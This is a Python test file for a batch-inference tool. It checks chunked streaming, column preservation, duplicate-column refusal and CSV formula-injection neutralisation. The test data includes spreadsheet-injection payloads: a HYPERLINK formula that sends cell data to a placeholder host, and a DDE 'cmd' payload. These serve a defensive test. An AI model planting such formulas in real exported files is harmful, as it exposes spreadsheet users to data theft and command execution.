"""Batch inference over files keeps the user's data: streamed in chunks, no column overwritten,
formula cells made inert in CSV, byte-order marks accepted, duplicate columns refused."""

from __future__ import annotations

import json

import pandas as pd
import pytest

from slimflow.models.core.errors import ConfigError, DataError
from slimflow.models.release.batch_predict import neutralise, predict_file

CALLS: list[int] = []


def fake(texts: list[str]) -> pd.DataFrame:
    CALLS.append(len(texts))
    return pd.DataFrame(
        {"label": ["pos" if "good" in t else "neg" for t in texts], "score": [0.9] * len(texts)}
    )


def test_csv_rows_come_back_unchanged_with_predictions_streamed_in_chunks(tmp_path):
    src = tmp_path / "in.csv"
    body = "id,text,note\n" + "".join(
        f"{i},good film {i},NA\n" if i % 2 else f"{i},dull {i},\n" for i in range(10)
    )
    src.write_bytes(b"\xef\xbb\xbf" + body.encode())  # Excel's byte-order mark
    CALLS.clear()
    res = predict_file(fake, src, tmp_path / "out.csv", "text", "", chunk_rows=3)
    assert res == {"rows": 10, "labels": {"neg": 5, "pos": 5}}
    assert CALLS == [3, 3, 3, 1]  # never the whole file at once
    got = pd.read_csv(tmp_path / "out.csv", dtype=str, keep_default_na=False)
    assert list(got.columns) == ["id", "text", "note", "label", "score"]
    assert got["id"].tolist() == [str(i) for i in range(10)]
    assert got["note"].tolist() == ["", "NA"] * 5  # "NA" stays text, empty stays empty


def test_an_input_column_is_never_overwritten(tmp_path):
    src = tmp_path / "in.csv"
    pd.DataFrame({"text": ["good", "bad"], "label": ["gold-1", "gold-2"]}).to_csv(src, index=False)
    with pytest.raises(ConfigError, match="already has a column 'label'.*--prefix"):
        predict_file(fake, src, tmp_path / "out.csv", "text")
    assert not (tmp_path / "out.csv").exists()
    predict_file(fake, src, tmp_path / "out.csv", "text", prefix="predicted_")
    got = pd.read_csv(tmp_path / "out.csv")
    assert got["label"].tolist() == ["gold-1", "gold-2"] and got["predicted_label"].tolist() == ["pos", "neg"]


def test_formula_cells_are_neutralised_in_csv_only(tmp_path):
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    src = tmp_path / "in.jsonl"
    rows = [
        {"text": evil},
        {"text": "+cmd|' /C calc'!A0"},
        {"text": "-1.5"},
        {"text": "@SUM(1+1)"},
        {"text": "ok"},
    ]
    src.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8-sig")
    predict_file(fake, src, tmp_path / "out.csv", "text")
    got = pd.read_csv(tmp_path / "out.csv", dtype=str)["text"].tolist()
    assert got == ["'" + evil, "'+cmd|' /C calc'!A0", "-1.5", "'@SUM(1+1)", "ok"]
    predict_file(fake, src, tmp_path / "out.jsonl", "text")  # JSON is data, not a spreadsheet: as is
    assert [json.loads(x)["text"] for x in (tmp_path / "out.jsonl").read_text().splitlines()][0] == evil
    assert neutralise("\tx") == "'\tx" and neutralise(3) == 3 and neutralise("1e5") == "1e5"


def test_parquet_and_jsonl_stream_too_and_duplicates_are_refused(tmp_path):
    frame = pd.DataFrame({"text": [f"good {i}" for i in range(25)], "n": list(range(25))})
    frame.to_parquet(tmp_path / "in.parquet")
    CALLS.clear()
    predict_file(fake, tmp_path / "in.parquet", tmp_path / "out.parquet", "text", chunk_rows=10)
    assert CALLS == [10, 10, 5]
    got = pd.read_parquet(tmp_path / "out.parquet")
    assert got["n"].tolist() == list(range(25)) and set(got["label"]) == {"pos"}
    (tmp_path / "dup.csv").write_text("text,text\na,b\n")
    with pytest.raises(DataError, match="duplicate column"):
        predict_file(fake, tmp_path / "dup.csv", tmp_path / "o.csv", "text")
    with pytest.raises(ConfigError, match="no column 'body'"):
        predict_file(fake, tmp_path / "in.parquet", tmp_path / "o.csv", "body")
